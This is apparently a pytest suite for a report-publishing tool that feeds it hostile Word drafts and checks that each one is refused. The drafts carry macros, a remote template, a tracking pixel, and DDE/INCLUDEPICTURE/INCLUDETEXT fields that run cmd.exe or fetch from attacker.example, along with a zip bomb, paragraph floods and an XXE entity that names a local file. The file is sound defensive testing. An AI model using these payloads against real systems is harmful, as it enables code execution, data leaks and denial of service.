"""Hostile drafts given to ``kpiflow publish``: macros, links to outside the document, fields that
run commands, zip bombs and paragraph floods. Each is refused (or made harmless) before anything
reaches the Cabinet paper, within bounded time and memory, through the real command line."""

from __future__ import annotations

import json
import sys
import time
import zipfile
from pathlib import Path

import pytest
from publish_helpers import (
    PKG_RELS,
    QUARTER,
    R_NS,
    W_NS,
    W,
    edit_xml,
    frag,
    kpiflow,
    no_soffice_env,
    para,
    region,
    rewrite,
)

from kpiflow.demo import DemoResult
from kpiflow.periods import parse_period
from kpiflow.settings import load_settings
from kpiflow.store import SQLiteStore

Q2 = parse_period(QUARTER)
EVIL = "attacker.example"


def state(demo: DemoResult) -> tuple[str, int]:
    with SQLiteStore(load_settings(demo.home).db_path) as store:
        return store.quarter_state(Q2), store.conn.execute("SELECT COUNT(*) FROM texts").fetchone()[0]


def refused(demo: DemoResult, draft: Path, *codes: str, timeout: float = 120,
            preexec: object = None) -> dict[str, object]:
    """Publish ``draft`` with --json: exit 1, the codes given, nothing changed."""
    before = state(demo)
    r = kpiflow(demo.home, "publish", "--quarter", QUARTER, "--from", str(draft), "--json", timeout=timeout,
                env=no_soffice_env(demo.home.parent / "bin"), preexec_fn=preexec)  # type: ignore[arg-type]
    assert r.returncode == 1, r.stdout + r.stderr
    out: dict[str, object] = json.loads(r.stdout)
    found = [p["code"] for p in out["checks"]["problems"]]  # type: ignore[index]
    for code in codes:
        assert code in found, found
    assert state(demo) == before
    assert not (demo.home / "outbox" / "published").exists() or not [
        p for p in (demo.home / "outbox" / "published").iterdir() if not p.name.startswith(".")]
    text = kpiflow(demo.home, "publish", "--quarter", QUARTER, "--from", str(draft), timeout=timeout,
                   env=no_soffice_env(demo.home.parent / "bin2"), preexec_fn=preexec)  # type: ignore[arg-type]
    print(text.stdout)
    return out


def add_rel(rels: bytes, rid: str, rtype: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return rels.replace(b"</Relationships>", f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>'
                        "</Relationships>".encode())


def test_a_macro_document_renamed_docx_is_refused(fresh: DemoResult) -> None:
    def macro_types(data: bytes) -> bytes:
        data = data.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                            b"application/vnd.ms-word.document.macroEnabled.main+xml")
        return data.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                            b"</Types>")

    rels = "word/_rels/document.xml.rels"
    docm = rewrite(fresh.report, fresh.home / "report.docx", {
        "[Content_Types].xml": macro_types,
        rels: lambda d: add_rel(d, "rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                "vbaProject.bin", external=False)},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"macro" * 100})
    out = refused(fresh, docm, "macro-content")
    messages = [p["message"] for p in out["checks"]["problems"]]  # type: ignore[index]
    assert any("vbaProject.bin" in m for m in messages)


def test_a_remote_template_is_left_out_of_the_published_copy(fresh: DemoResult) -> None:
    def attach(root: object) -> None:
        root.insert(0, frag('<w:attachedTemplate r:id="rIdTpl"/>'))  # type: ignore[attr-defined]

    settings_rels = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PKG_RELS}">' \
                    '</Relationships>'.encode()
    draft = rewrite(fresh.report, fresh.home / "attached.docx", {"word/settings.xml": edit_xml(attach)},
                    add={"word/_rels/settings.xml.rels": add_rel(
                        settings_rels, "rIdTpl",
                        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
                        f"http://{EVIL}/council.dotm")})
    r = kpiflow(fresh.home, "publish", "--quarter", QUARTER, "--from", str(draft),
                env=no_soffice_env(fresh.home.parent / "bin"))
    print(r.stdout)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "template" in r.stdout and EVIL in r.stdout             # said, not silent
    final = fresh.home / "outbox" / "published" / "2017-18_Q2" / "Appendix 6(b) - Exception Reports (Q2 2017-18).docx"
    with zipfile.ZipFile(final) as zf:
        assert not any(EVIL.encode() in zf.read(n) for n in zf.namelist())
        assert b"attachedTemplate" not in zf.read("word/settings.xml")


def test_a_picture_linked_from_outside_is_refused(fresh: DemoResult) -> None:
    picture = (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="100" cy="100"/><wp:docPr id="999" name="p" descr="tracking pixel"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
        '<pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdPix"/>'
        '</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')

    def place(root: object) -> None:
        content = region(root, "CS01", "commentary").find(f"{W}sdtContent")
        p = para("")
        p.append(frag(picture))
        content.append(p)

    draft = rewrite(fresh.report, fresh.home / "linked.docx", {
        "word/document.xml": edit_xml(place),
        "word/_rels/document.xml.rels": lambda d: add_rel(
            d, "rIdPix", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
            f"http://{EVIL}/pixel.png")})
    out = refused(fresh, draft, "external-link")
    assert any(EVIL in p["message"] for p in out["checks"]["problems"])  # type: ignore[index]


@pytest.mark.parametrize("instr", [" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ",
                                   " INCLUDEPICTURE \"http://attacker.example/x.png\" \\\\d ",
                                   " INCLUDETEXT \"\\\\\\\\attacker.example\\\\share\\\\a.docx\" "])
def test_a_field_that_runs_a_command_or_fetches_from_outside_is_refused(fresh: DemoResult, instr: str) -> None:
    half = len(instr) // 2      # Word may split a field's instruction over runs

    def plant(root: object) -> None:
        content = region(root, "CS02", "response").find(f"{W}sdtContent")
        p = para("")
        for piece in ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
                      f'<w:r><w:instrText xml:space="preserve">{instr[:half]}</w:instrText></w:r>',
                      f'<w:r><w:instrText xml:space="preserve">{instr[half:]}</w:instrText></w:r>',
                      '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r>',
                      '<w:r><w:fldChar w:fldCharType="end"/></w:r>'):
            p.append(frag(piece))
        content.append(p)

    draft = rewrite(fresh.report, fresh.home / "field.docx", {"word/document.xml": edit_xml(plant)})
    out = refused(fresh, draft, "unsafe-field")
    problem = next(p for p in out["checks"]["problems"] if p["code"] == "unsafe-field")  # type: ignore[index]
    assert problem["sheet"] == "CS02" and problem["cell"].startswith("paragraph ")


def test_a_dde_field_in_a_footer_is_refused(fresh: DemoResult) -> None:
    def plant(root: object) -> None:
        root.append(frag('<w:p><w:fldSimple w:instr=" dde cmd &quot;/c calc&quot; A1"><w:r><w:t>1</w:t></w:r>'
                         "</w:fldSimple></w:p>"))

    draft = rewrite(fresh.report, fresh.home / "footer.docx", {"word/footer1.xml": edit_xml(plant)})
    out = refused(fresh, draft, "unsafe-field")
    assert any("footer" in p["location"] for p in out["checks"]["problems"])  # type: ignore[index]


@pytest.fixture(scope="module")
def bomb(demo_src: DemoResult, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo's draft with its document.xml replaced by about 1.5 GB of XML that deflates to
    under 2 MB: a well-formed start, then a flood of empty paragraphs."""
    out = tmp_path_factory.mktemp("bomb") / "bomb.docx"
    with zipfile.ZipFile(demo_src.report) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED,
                                                                  compresslevel=9) as zout:
        for info in zin.infolist():
            if info.filename != "word/document.xml":
                zout.writestr(info.filename, zin.read(info))
        with zout.open("word/document.xml", "w") as fh:
            fh.write(f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body>'.encode())
            chunk = b"<w:p/>" * (1 << 20)
            for _ in range(240):
                fh.write(chunk)
            fh.write(b"</w:body></w:document>")
    return out


def _limit_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (1_200_000_000, 1_200_000_000))


def test_a_zip_bomb_is_refused_at_once_in_bounded_memory(fresh: DemoResult, bomb: Path) -> None:
    draft = bomb
    assert 1_000_000 < draft.stat().st_size < 4_000_000
    started = time.monotonic()
    out = refused(fresh, draft, "oversized-part", preexec=_limit_memory)
    assert time.monotonic() - started < 60
    problem = out["checks"]["problems"][0]  # type: ignore[index]
    assert problem["cell"] == "word/document.xml"


def test_a_hundred_thousand_nested_paragraphs_are_refused_at_once(fresh: DemoResult) -> None:
    import random

    n = 100_000
    rng = random.Random(3)
    # varied text, so that the part is not refused for compressing too well before it is parsed
    nested = b"".join(b"<w:p><w:r><w:t>%d %x</w:t></w:r>" % (i, rng.getrandbits(64)) for i in range(n)) + b"</w:p>" * n

    def flood(data: bytes) -> bytes:
        return data.replace(b"<w:body>", b"<w:body>" + nested, 1)

    draft = rewrite(fresh.report, fresh.home / "nested.docx", {"word/document.xml": flood})
    started = time.monotonic()
    refused(fresh, draft, "damaged-draft", timeout=60)
    assert time.monotonic() - started < 60


def test_a_hundred_thousand_paragraphs_are_read_in_bounded_time(fresh: DemoResult) -> None:
    """Paragraphs in a region, and paragraphs nested as deep as the parser allows, many times over:
    read once each (a reader that walks each paragraph's subtree, or its ancestors, for every
    paragraph or piece of text would take minutes)."""
    import random

    rng = random.Random(7)
    words = ["figure", "quarter", "service", "children", "plan", "target", "review", "placement", "early", "help"]

    def flood(root: object) -> None:
        content = region(root, "CS01", "commentary").find(f"{W}sdtContent")
        for i in range(90_000):
            content.append(para(f"{i} " + " ".join(rng.choice(words) for _ in range(6))))
        body = root.find(f"{W}body")  # type: ignore[attr-defined]
        chain = "".join("<w:p><w:r><w:t>n</w:t></w:r>" for _ in range(100)) + "</w:p>" * 100
        for _ in range(100):
            body.insert(len(body) - 1, frag(chain))
        last = body[len(body) - 2]
        last.append(frag('<w:ins w:id="90001" w:author="A" w:date="2017-10-20T10:00:00Z"><w:r><w:t>late</w:t>'
                         "</w:r></w:ins>"))

    draft = rewrite(fresh.report, fresh.home / "flood.docx", {"word/document.xml": edit_xml(flood)})
    started = time.monotonic()
    out = refused(fresh, draft, "tracked-change", timeout=120)
    assert time.monotonic() - started < 120
    # and the region, 90,000 paragraphs long, is more than a report can hold
    assert [p["code"] for p in out["checks"]["problems"]] == ["tracked-change", "region-too-long"]  # type: ignore[index]


_ = (sys, R_NS)


def test_a_document_part_declaring_entities_is_refused_unexpanded(fresh: DemoResult) -> None:
    secret = fresh.home / "kpiflow.toml"

    def entity(data: bytes) -> bytes:
        head, _, rest = data.partition(b"?>")
        return (head + b"?>" + f'<!DOCTYPE w:document [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'.encode()
                + rest.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p>", 1))

    draft = rewrite(fresh.report, fresh.home / "entity.docx", {"word/document.xml": entity})
    out = refused(fresh, draft, "damaged-draft")
    assert "council" not in json.dumps(out)     # nothing of the file the entity names was read
